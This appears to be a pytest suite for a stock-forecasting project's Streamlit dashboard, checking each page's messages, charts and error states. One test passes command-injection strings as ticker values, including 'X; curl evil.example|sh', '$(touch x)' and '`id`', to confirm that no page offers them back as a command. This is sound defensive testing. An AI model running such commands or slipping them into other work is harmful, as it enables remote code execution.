"""Every page on a real warehouse, in every state, run by Streamlit's own test harness."""

import html
import json
import os
import re
import shutil
from datetime import date
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from stockcast_assets.clock import utc_today
from stockcast_assets.dashboard import data
from stockcast_assets.errors import StockcastError
from stockcast_assets.market import indicators
from stockcast_assets.monitoring.series import FEATURES, KIND_OF
from stockcast_assets.orchestration.home import open_instance
from stockcast_assets.settings import Settings
from stockcast_assets.tables import INDICATORS, TRAINED_MODEL
from stockcast_assets_tests.dashboard.home import REASON, model_row, write

PAGES = ("forecasts", "trust", "card", "monitoring", "universe", "risk")


def open_page(view: str, **query: str) -> AppTest:
    script = (
        "from stockcast_assets.dashboard.layout import page\n"
        f"from stockcast_assets.dashboard.views import {view}\n"
        f"page({view}.show)()\n"
    )
    app = AppTest.from_string(script, default_timeout=60)
    for name, value in query.items():
        app.query_params[name] = value
    app.run()
    assert not app.exception, [e.message for e in app.exception]
    return app


def text(app: AppTest) -> str:
    """Everything written on the page as HTML or markdown."""
    return " ".join(str(block.proto.body) for block in app.get("html")) + " ".join(m.value for m in app.markdown)


def _scored(shown: str) -> str:
    """The number on the card "Scored forecasts"."""
    return re.search(r'Scored forecasts</div><div class="value">([\d,]+)', shown).group(1)


@pytest.mark.parametrize("view", PAGES)
def test_every_page_shows_what_a_forecast_is(home, view):
    app = open_page(view)
    assert app.title[0].value == view.capitalize()
    assert "It is not advice" in text(app)


@pytest.mark.parametrize("view", PAGES)
def test_an_empty_home_says_what_to_do(empty_home, view):
    app = open_page(view)
    assert "Nothing here yet" in text(app)
    assert "stockcast demo" in text(app)


@pytest.mark.parametrize("view", ["forecasts", "trust", "card", "monitoring"])
def test_a_ticker_without_data_says_so_instead_of_showing_another(home, view):
    app = open_page(view, ticker="NOPE")
    assert app.selectbox(key="ticker").value == "NOPE"
    assert "of NOPE" in text(app)
    assert "stockcast forecast NOPE" in text(app)


@pytest.mark.parametrize("view", ["forecasts", "trust", "card", "monitoring"])
@pytest.mark.parametrize(
    "ticker", ["$(touch x)", "X; curl evil.example|sh", "--debug", "`id`", "X\nstockcast demo", "<b>X"]
)
def test_no_address_makes_a_page_offer_a_command_of_its_own(home, view, ticker):
    app = open_page(view, ticker=ticker)
    assert "is not a ticker" in text(app)
    assert "<pre>" not in text(app)
    assert "stockcast " not in text(app)


@pytest.mark.parametrize("view", PAGES)
def test_a_broken_warehouse_is_one_sentence_and_a_button(empty_home, view):
    (empty_home / "warehouse.duckdb").write_bytes(b"this is no database" * 1000)
    app = open_page(view)
    assert "The data cannot be read right now" in text(app)
    assert [button.label for button in app.button] == ["Try again"]


LOST = "has lost rows that Dagster remembers (forecasts: 1 key): `stockcast reconcile` makes them"


@pytest.fixture
def recorded_home(empty_home: Path, filled_home: Path) -> Path:
    """A copy of the filled home, with two keys of `forecasts` that Dagster remembers."""
    shutil.copytree(filled_home, empty_home, dirs_exist_ok=True)
    counted = {"dagster/row_count": 10}
    with open_instance(Settings(home=empty_home, source="sample")) as instance:
        instance.add_dynamic_partitions("ticker", ["AAPL"])
        for day in ("2013-02-28|AAPL", "2013-02-27|AAPL"):
            instance.report_runless_asset_event(dg.AssetMaterialization("forecasts", partition=day, metadata=counted))
    return empty_home


def lose_rows(home: Path) -> None:
    with duckdb.connect(str(home / "warehouse.duckdb")) as warehouse:
        warehouse.execute("DELETE FROM stockcast.forecasts WHERE ticker = 'AAPL' AND date = '2013-02-28'")


@pytest.mark.parametrize("view", PAGES)
def test_rows_that_are_lost_are_said_on_every_page(recorded_home, view):
    lose_rows(recorded_home)
    assert f"warehouse.duckdb {LOST}" in text(open_page(view))


def test_rows_that_are_lost_are_said_until_they_are_back(recorded_home):
    database = recorded_home / "warehouse.duckdb"
    assert "has lost rows" not in text(open_page("forecasts"))
    whole = database.read_bytes()
    lose_rows(recorded_home)
    assert LOST in text(open_page("forecasts"))
    database.write_bytes(whole)
    assert "has lost rows" not in text(open_page("forecasts"))
    database.unlink()
    shown = text(open_page("forecasts"))
    assert "(forecasts: 2 keys): `stockcast reconcile` makes them again" in shown
    assert "Nothing here yet" in shown
    database.write_bytes(whole)
    index = recorded_home / "dagster" / "history" / "runs" / "index.db"
    index.write_text("no database")
    os.utime(index, (1e9, 1e9))
    assert "was not compared with what Dagster remembers" in text(open_page("forecasts"))


@pytest.mark.parametrize("day", ["1995-01-01", "2031-01-01", "never"])
@pytest.mark.parametrize(("view", "ticker"), [("forecasts", "AAPL"), ("monitoring", "MSFT")])
def test_an_address_with_a_day_that_is_not_there_says_so(home, view, ticker, day):
    shown = text(open_page(view, ticker=ticker, date=day))
    assert f"Nothing is stored as of {day}: this is 2013-03-01." in shown
    assert "Nothing is stored as of" not in text(open_page(view, ticker=ticker, date="2013-02-28"))


@pytest.mark.parametrize("view", ["forecasts", "monitoring"])
def test_a_day_without_a_session_leads_to_the_one_before(home, view):
    shown = text(open_page(view, ticker="AAPL", date="2013-03-01"))
    assert "Nothing is stored as of" not in shown
    app = open_page("forecasts", ticker="AAPL", date="2013-02-17")
    assert app.date_input(key="date").value == date(2013, 2, 15)
    assert "Nothing is stored as of 2013-02-17: this is 2013-02-15." in text(app)


def test_an_address_leads_to_the_ticker_and_day(home):
    app = open_page("forecasts", ticker="MSFT", date="2012-12-12")
    assert app.selectbox(key="ticker").value == "MSFT"
    assert app.date_input(key="date").value == date(2012, 12, 12)
    assert "27.24" in text(app), "the close of that day"
    assert "10 of 10 intervals" in text(app)


def test_forecasts_say_who_published_and_why(home):
    assert REASON in text(open_page("forecasts", ticker="AAPL", date="2013-01-15"))


def test_forecasts_begin_with_their_answer_in_plain_words(home):
    shown = text(open_page("forecasts", ticker="AAPL", date="2013-01-15"))
    assert re.search(
        r"By 30 Jan 2013 between [\d.]+ \(−[\d.]+ %\) and [\d.]+ \(\+[\d.]+ %\), in USD: four times of five\. "
        "Range from the ticker's own recent volatility; a neural network was tried and was no better",
        html.unescape(shown),
    )
    assert "Chance of a rise" in shown
    ten = open_page("forecasts", ticker="AAPL", date="2013-01-15").dataframe[0].value
    assert ten["target_date"].iloc[[0, -1]].tolist() == [pd.Timestamp("2013-01-16"), pd.Timestamp("2013-01-30")]


def test_no_page_offers_what_cannot_be_done(home):
    """No box to check in a table, and no ticker to add that would not be added."""
    for view in PAGES:
        app = open_page(view)
        for shown in app.dataframe:
            assert shown.value.select_dtypes("bool").empty
            assert '"checkbox"' not in shown.proto.columns
        assert not any(box.proto.accept_new_options for box in app.selectbox)


def test_tickers_are_compared_in_one_figure(home):
    app = open_page("universe")
    assert not app.get("plotly_chart")
    app.multiselect(key="compare").set_value(["AAPL", "MSFT"]).run()
    assert not app.exception
    assert len(app.get("plotly_chart")) == 1


def test_trust_shows_the_second_opinion_where_one_is_set(home, monkeypatch):
    assert "No second source is set" in text(open_page("trust", ticker="MSFT"))
    monkeypatch.setenv("STOCKCAST_SECOND_SOURCE", "sample")
    st.cache_resource.clear()
    st.cache_data.clear()
    shown = text(open_page("trust", ticker="MSFT"))
    assert re.search(r'Bars in both</div><div class="value">3,270<', shown)
    assert re.search(r'Disputed</div><div class="value">0<', shown)


def test_every_page_says_how_old_its_data_is(home):
    for view in PAGES:
        app = open_page(view)
        assert re.search(r"last written \d\d \w{3} \d{4} \d\d:\d\d UTC, (just now|\d+ \w+ ago)", text(app))
        app.button(key="refresh").click().run()
        assert not app.exception


def test_forecasts_of_the_model_lead_to_its_proof(home):
    shown = text(open_page("forecasts", ticker="AAPL", date="2013-02-15"))
    assert "Published by the LSTM, model version 2; the Trust page has its proof." in shown


def test_forecasts_offer_candles_windows_and_downloads(home):
    app = open_page("forecasts", ticker="MSFT", candles="true", window="1+year")
    assert app.toggle(key="candles").value
    assert len(app.get("plotly_chart")) == 4
    assert len(app.get("download_button")) == 3
    app.slider(key="buckets").set_value(10).run()
    assert not app.exception


def test_trust_tells_proof_outcome_and_history(home):
    shown = text(open_page("trust", ticker="MSFT"))
    assert "The LSTM is published" in shown
    assert "Skill over random walk" in shown
    assert "up to date" in shown
    everyone = text(open_page("trust", ticker="MSFT", scope="All tickers"))
    assert tuple(_scored(page) for page in (shown, everyone)) == ("765", "1,530")


def test_trust_shows_how_published_ranges_did_beside_those_that_were_stored_with_them(home):
    app = open_page("trust", ticker="MSFT", window="60 sessions")
    shown = text(app)
    for card in ("Interval / linear HAR", "Interval / HAR x reports", "Kupiec / Christoffersen", "CRPS"):
        assert card in shown
    assert "of 60 missed" in shown
    assert "replay" not in shown
    assert len(app.get("plotly_chart")) == 7
    everyone = text(open_page("trust", ticker="MSFT", scope="All tickers"))
    assert "of 2 tickers fail at 5 %; 0.1 by chance" in everyone


def test_late_forecasts_are_shown_as_what_they_are_and_apart(empty_home, filled_home):
    shutil.copytree(filled_home, empty_home, dirs_exist_ok=True)
    spoil(empty_home, "late = true WHERE ticker = 'AAPL'")
    late = text(open_page("trust", ticker="AAPL"))
    assert "None of these is a forecast" in late
    assert _scored(late) == "765"
    assert "None of these is a forecast" not in text(open_page("trust", ticker="MSFT"))
    everyone = open_page("trust", ticker="MSFT", scope="All tickers")
    assert _scored(text(everyone)) == "765"
    everyone.get("button_group")[-1].set_value("late").run()
    assert "None of these is a forecast" in text(everyone)
    assert "lost to HAR's in the last 250 sessions: none." in html.unescape(text(open_page("universe")))
    spoil(empty_home, "late = true")
    assert "None of these forecasts came in time" in text(open_page("universe"))


def test_scores_of_earlier_releases_are_shown_without_what_they_lack(empty_home, filled_home):
    shutil.copytree(filled_home, empty_home, dirs_exist_ok=True)
    spoil(empty_home, "late = NULL, pit = NULL, pinball = NULL, pinball_har = NULL")
    shown = text(open_page("trust", ticker="AAPL"))
    assert "when they were published is not known" in shown
    assert "Earlier releases stored no baselines" in shown
    assert "Skill over random walk" in shown
    assert "lost to HAR" not in text(open_page("universe"))


def spoil(home: Path, change: str) -> None:
    with duckdb.connect(str(home / "warehouse.duckdb")) as warehouse:
        warehouse.execute(f"UPDATE stockcast.forecast_accuracy SET {change}")  # noqa: S608


def test_trust_says_what_is_published_instead_of_a_model(empty_home):
    refused = {"promoted": False, "method": "naive_har", "reason": "The LSTM is not published because it is worse."}
    rows = [
        model_row("OWN", 1) | refused,
        model_row("OLDER", 1),
        model_row("OLDER", 2) | refused | {"serving_version": "1"},
    ]
    write(empty_home, TRAINED_MODEL, pd.DataFrame(rows))
    for ticker, instead in (("OWN", "the baseline linear HAR"), ("OLDER", "model version 1")):
        assert f"{refused['reason']} Published instead: {instead}." in text(open_page("trust", ticker=ticker))


def test_trust_shows_no_proof_where_nothing_was_trained(empty_home):
    reason = "SHORT has 104 sessions and a model needs at least 259: the random walk is published."
    untrained = {
        column.name: None for column in TRAINED_MODEL.columns if not column.required and column.type == "FLOAT64"
    }
    row = model_row("SHORT", 3) | untrained | {
        "n_samples": 0, "n_cases": 0, "promoted": False, "method": "naive_random_walk", "reason": reason
    }  # fmt: skip
    write(empty_home, TRAINED_MODEL, pd.DataFrame([row]).astype(dict.fromkeys(untrained, "float64")))
    app = open_page("trust", ticker="SHORT")
    shown = text(app)
    assert reason in shown
    assert "Nothing was trained" in shown
    assert "nan" not in shown.lower()
    assert not app.get("plotly_chart")


def test_a_card_is_of_the_month_that_the_address_names_or_of_the_newest(home):
    shown = open_page("card", ticker="AAPL", month="2013-01").markdown[0].value
    assert shown.startswith("# Model card: AAPL, January 2013\n")
    assert REASON in shown
    newest = open_page("card", ticker="AAPL", month="1999-01")
    assert newest.markdown[0].value.startswith("# Model card: AAPL, March 2013\n")
    assert "There is no model of AAPL for 1999-01: this is 2013-03." in text(newest)
    assert newest.selectbox[1].options == ["2013-03", "2013-02", "2013-01"]


def test_monitoring_tells_the_kinds_of_drift_apart(home):
    app = open_page("monitoring", ticker="MSFT", date="2013-03-01")
    headings = ["Inputs: what the market does", "Predictions: what the model says", "Residuals: how the forecasts err"]
    assert [header.value for header in app.header][:3] == headings
    assert len(app.get("plotly_chart")) == 3 + len(KIND_OF), "a history per kind, two windows per feature"
    own = data.drift("MSFT")
    newest = own[own["date"] == "2013-03-01"]
    for kind in FEATURES:
        verdict = "drifted" if newest.loc[newest["kind"] == kind, "drifted"].any() else "as expected"
        assert f'{kind.capitalize()}</div><div class="value">{verdict}<' in text(app)


def test_monitoring_says_why_a_kind_was_not_compared(home):
    shown = text(open_page("monitoring", ticker="AAPL"))
    assert "Predictions are not compared yet" in shown
    assert "The model can be asked about 0 sessions of the reference, and 120 are needed" in shown
    assert "Residuals are not compared" not in shown


def test_monitoring_shows_the_rows_of_an_earlier_release_as_inputs(home, tmp_path, monkeypatch):
    copy = shutil.copytree(home, tmp_path / "old")
    with duckdb.connect(str(copy / "warehouse.duckdb")) as connection:
        connection.execute("DELETE FROM stockcast.drift_report WHERE kind <> 'inputs'")
        connection.execute("ALTER TABLE stockcast.drift_report DROP COLUMN kind")
    monkeypatch.setenv("STOCKCAST_HOME", str(copy))
    st.cache_resource.clear()
    shown = text(open_page("monitoring", ticker="MSFT"))
    assert "Inputs are not compared" not in shown
    assert "Residuals are not compared yet" in shown


def test_monitoring_links_to_evidently_report(home):
    link = open_page("monitoring", ticker="MSFT", date="2013-02-28").get("link_button")[0]
    assert link.proto.url == "reports/MSFT/2013-02-28"


def test_a_report_says_what_it_is_drawn_without(home):
    drawn = data.drift_page("MSFT", date(2013, 2, 28))
    assert "residuals: pit" in drawn
    assert "Drawn without width_1, width_10, median_10" in drawn


def test_reports_are_served_from_a_bucket(home, storage_client, monkeypatch):
    record = data.report_store().record("MSFT", date(2013, 3, 1))
    bucket = storage_client.create_bucket("dashboard-reports")
    bucket.blob("drift/MSFT/2013-03-01.json").upload_from_string(json.dumps(record))
    monkeypatch.setenv("STOCKCAST_REPORTS", "gs://dashboard-reports/drift")
    monkeypatch.setenv("STOCKCAST_GCP_PROJECT", "test")
    st.cache_resource.clear()
    st.cache_data.clear()
    app = open_page("monitoring", ticker="MSFT", date="2013-03-01")
    assert len(app.get("plotly_chart")) == 3 + len(KIND_OF)
    assert "inputs: log_return" in data.drift_page("MSFT", date(2013, 3, 1))
    with pytest.raises(StockcastError, match=r"no drift report of MSFT on 2013-02-28 in gs://dashboard-reports/drift"):
        data.drift_page("MSFT", date(2013, 2, 28))


def test_monitoring_without_the_report_files_keeps_its_numbers(home, monkeypatch, tmp_path):
    monkeypatch.setenv("STOCKCAST_REPORTS", str(tmp_path))
    st.cache_resource.clear()
    st.cache_data.clear()
    app = open_page("monitoring", ticker="MSFT")
    assert "The report of this day is not stored" in text(app)
    assert "It was pruned" in text(app)
    assert len(app.get("plotly_chart")) == 3


def test_universe_lists_every_ticker(home):
    table = open_page("universe").dataframe[0].value
    assert table["ticker"].tolist() == ["forecasts?ticker=AAPL", "forecasts?ticker=MSFT"]
    assert table["method"].tolist() == ["LSTM", "LSTM"]


def test_indicators_on_the_page_are_those_of_the_table(home):
    shown = data.studied("MSFT")
    stored = data.read(INDICATORS, tickers=["MSFT"])
    assert len(shown) == 3270
    merged = stored.merge(shown, on=["ticker", "date"], suffixes=("", "_page"))
    assert len(merged) == len(stored)
    for name in ("sma_15", "rsi_14", "macd_hist", "ema_100"):
        assert (merged[name] == merged[f"{name}_page"]).all()
    assert indicators.compute(data.bars("MSFT"))["close"].tolist() == shown["close"].tolist()


def test_the_next_report_is_a_field_of_the_forecast_and_a_column_of_the_universe(home):
    # Last year's third report came on 19 April 2012; 52 weeks later is Thursday, 18 April 2013.
    card = re.search(
        r'Next report</div><div class="value">([^<]+)</div>.*?expected', text(open_page("forecasts", ticker="MSFT"))
    )
    assert card
    assert card.group(1) == "18 Apr 2013"
    assert "Next report</div><div" not in text(open_page("forecasts", ticker="AAPL"))
    shown = open_page("universe").dataframe[0].value
    assert shown["report"].tolist() == ["–", "2013-04-18"]


@pytest.mark.parametrize("view", PAGES)
def test_every_page_says_that_it_shows_the_world_of_a_past_day(home, view):
    today = open_page(view, known=str(utc_today()))
    assert f"The world as it was known at the end of {utc_today()}" in text(today)
    assert today.date_input(key="known").value == utc_today()
    before = open_page(view, known="2012-06-01")
    assert "The world as it was known at the end of 2012-06-01" in text(before)
    assert "Nothing was known then" in text(before)
    back = before.button[0].click().run()
    assert "The world as it was known" not in text(back)
    assert "known" not in back.query_params


def test_a_past_day_that_is_none_is_said(home):
    assert "is still to come" in text(open_page("universe", known="2999-01-01"))
    assert "is not a date" in text(open_page("universe", known="soon"))


def test_the_risk_of_the_holdings_that_are_typed_in(home):
    app = open_page("risk")
    shown = text(app)
    assert "One session in a hundred loses more than" in shown
    assert "It is not the most that can be lost" in shown
    assert "Kupiec" in shown
    assert len(app.get("plotly_chart")) == 1
    positions = app.dataframe[0].value
    assert positions["Ticker"].tolist() == ["AAPL", "MSFT"]
    assert positions["Share"].sum() == pytest.approx(1)
    at_risk = re.search(r"One session in a hundred loses more than ([\d.,]+) of", shown)
    assert at_risk is not None
    assert f"{positions['VaR 1 %, 1 session'].sum():,.2f}" == at_risk[1]
    app.text_area(key="holdings").set_value("ticker,quantity\nMSFT,-5").run()
    assert app.dataframe[0].value["Quantity"].tolist() == [-5]
    for typed, words in {
        "ticker,quantity\nMSFT,lots": "no number",
        "ticker,quantity\nNOPE,1": "NOPE has no forecast",
    }.items():
        app.text_area(key="holdings").set_value(typed).run()
        assert words in text(app)
        assert not app.exception
